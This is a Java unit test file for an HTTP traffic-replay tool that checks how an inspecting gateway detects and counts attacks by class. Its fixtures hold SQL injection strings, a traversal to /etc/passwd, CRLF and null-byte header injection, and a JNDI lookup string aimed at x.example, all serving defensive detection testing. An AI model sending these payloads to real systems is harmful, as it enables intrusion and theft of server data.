package dev.portcullis.replay;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ReplayTest {
  private static final String BENIGN =
      """
      {"request":{"method":"GET","url":"http://h:1/items/5","headers":{"Host":"h"},"body":""},\
      "response":{"status_code":200,"headers":{"Content-Type":"application/json"},"body":"{}"}}
      """;
  private static final String SQL =
      """
      {"request":{"method":"GET","url":"http://h:1/items?id=1'%20or%20'1'='1","headers":{},\
      "body":"","Attack_Tag":"SQL Injection"},\
      "response":{"status_code":500,"headers":{},"body":"oops"}}
      """;
  private static final String CLIMB =
      """
      {"request":{"method":"GET","url":"http://h:1/a/../../../etc/passwd","headers":{},"body":"",\
      "Attack_Tag":"Directory Traversal"},\
      "response":{"status_code":404,"headers":{},"body":""}}
      """;
  private static final String POSTED =
      """
      {"request":{"method":"POST","url":"http://h:1/login","headers":{"Content-Length":"999",\
      "Connection":"keep-alive","Content-Type":"application/json"},\
      "body":"{\\"user\\":\\"admin'--\\"}","Attack_Tag":"SQL Injection"},\
      "response":{"status_code":302,"headers":{"Location":"/"},"body":""}}
      """;
  private static final String UNSEEN =
      """
      {"request":{"method":"GET","url":"http://h:1/quiet","headers":{},"body":"",\
      "Attack_Tag":"Unknown Kind"},\
      "response":{"status_code":200,"headers":{},"body":""}}
      """;

  @TempDir Path directory;

  @Test
  void eachExchangeGoesThroughTheGateAndIsCountedByItsClass() throws Exception {
    ReplayResult result = replay(BENIGN + SQL + CLIMB + BENIGN + POSTED + UNSEEN, 1);
    assertThat(result.json())
        .isEqualTo(
            "{\"exchanges\":6,\"attacks\":4,\"noticed\":3,\"benign\":2,\"accused\":0,\"by_class\":"
                + "{\"Directory Traversal\":{\"total\":1,\"noticed\":1},"
                + "\"SQL Injection\":{\"total\":2,\"noticed\":2},"
                + "\"Unknown Kind\":{\"total\":1,\"noticed\":0}}}");
  }

  @Test
  void theOrderMakesNoDifference() throws Exception {
    String traffic = BENIGN + SQL + CLIMB + BENIGN.replace("/5", "/6") + POSTED + UNSEEN;
    assertThat(replay(traffic, 42)).isEqualTo(replay(traffic, 43));
  }

  @Test
  void theUpstreamAnswersAsRecorded() throws Exception {
    Path file = Files.writeString(directory.resolve("one.jsonl"), POSTED);
    try (var upstream = new RecordedUpstream();
        var gate = new InspectingGate(upstream.address())) {
      new Replay(gate.address(), gate.journal(), upstream).run(file, 1, sent -> {});
      assertThat(upstream.answered()).isEqualTo(1);
      assertThat(gate.journal().exchanges())
          .singleElement()
          .satisfies(exchange -> {
            assertThat(exchange.status()).isEqualTo(302);
            assertThat(exchange.requestBytes()).isEqualTo("{\"user\":\"admin'--\"}".length());
          });
    }
  }

  @Test
  void aGateThatHangsUpOnMalformedBytesHasNoticedThem() throws Exception {
    String forged = SQL.replace("\"headers\":{}", "\"headers\":{\"X-A\":\"b\\u0000c\"}");
    String benign = BENIGN.replace("\"Host\":\"h\"", "\"X-A\":\"b\\u0000c\"");
    ReplayResult result = replay(forged + benign, 1);
    assertThat(result.noticed()).isEqualTo(1);
    assertThat(result.accused()).as("told by the bytes, not by the label").isEqualTo(1);
  }

  @Test
  void gzipAndPlainFilesAreReadAlike() throws Exception {
    var bytes = new ByteArrayOutputStream();
    try (var gzip = new GZIPOutputStream(bytes)) {
      gzip.write((BENIGN + "\n" + SQL).getBytes(StandardCharsets.UTF_8));
    }
    Path zipped = Files.write(directory.resolve("a.jsonl.gz"), bytes.toByteArray());
    Path plain = Files.writeString(directory.resolve("a.jsonl"), BENIGN + "\n" + SQL);
    assertThat(RecordingFile.read(zipped)).isEqualTo(RecordingFile.read(plain)).hasSize(2);
    byte[] half = java.util.Arrays.copyOf(bytes.toByteArray(), bytes.size() / 2);
    Path broken = Files.write(directory.resolve("b.jsonl.gz"), half);
    assertThatThrownBy(() -> RecordingFile.read(broken)).hasMessageContaining("gzip");
  }

  @Test
  void aBrokenLineIsNamedWithWhatWouldBeRight() throws Exception {
    for (String broken :
        List.of(
            "{\"request\":",
            "[]",
            BENIGN.replace("\"method\":\"GET\",", ""),
            BENIGN.replace("\"status_code\":200", "\"status_code\":7"))) {
      Path file = Files.writeString(directory.resolve("broken.jsonl"), BENIGN + broken);
      assertThatThrownBy(() -> RecordingFile.read(file))
          .isInstanceOf(ReplayException.class)
          .hasMessageContaining("broken.jsonl, line 2")
          .hasMessageContaining("status_code");
    }
    Path empty = Files.writeString(directory.resolve("empty.jsonl"), "");
    assertThatThrownBy(() -> RecordingFile.read(empty)).hasMessageContaining("no exchanges");
    assertThatThrownBy(() -> RecordingFile.read(directory.resolve("none")))
        .hasMessageContaining("can't be read");
  }

  @Test
  void aRequestIsSentAsItsClientSentItButFramedByUs() {
    var exchange =
        new RecordedExchange(
            1,
            "POST",
            "/a/../%2e%2e/b c?x='",
            List.of(
                Map.entry("Host", "h"),
                Map.entry("Content-Length", "7"),
                Map.entry("Connection", "keep-alive"),
                Map.entry("X-Multi", "one\r\ntwo")),
            "body",
            Optional.of("any"),
            new RecordedExchange.Response(200, List.of(), ""));
    assertThat(new String(RequestWriter.bytes(exchange), StandardCharsets.UTF_8))
        .isEqualTo(
            "POST /a/../%2e%2e/b%20c?x=' HTTP/1.1\r\nHost: h\r\nX-Multi: one\r\ntwo\r\n"
                + "Content-Length: 4\r\nConnection: close\r\n\r\nbody");
    var odd =
        new RecordedExchange(
            1,
            "GET",
            "/",
            List.of(Map.entry("Connection", "keep-alive${jndi:ldap://x.example}")),
            "",
            Optional.empty(),
            new RecordedExchange.Response(200, List.of(), ""));
    assertThat(new String(RequestWriter.bytes(odd), StandardCharsets.UTF_8))
        .contains("Connection: keep-alive${jndi:ldap://x.example}\r\n");
  }

  private ReplayResult replay(String traffic, long seed) throws Exception {
    Path file = Files.writeString(directory.resolve("traffic.jsonl"), traffic);
    try (var upstream = new RecordedUpstream();
        var gate = new InspectingGate(upstream.address())) {
      var progress = new ArrayList<Integer>();
      ReplayResult result =
          new Replay(gate.address(), gate.journal(), upstream).run(file, seed, progress::add);
      assertThat(progress).hasSize(result.exchanges());
      return result;
    }
  }
}
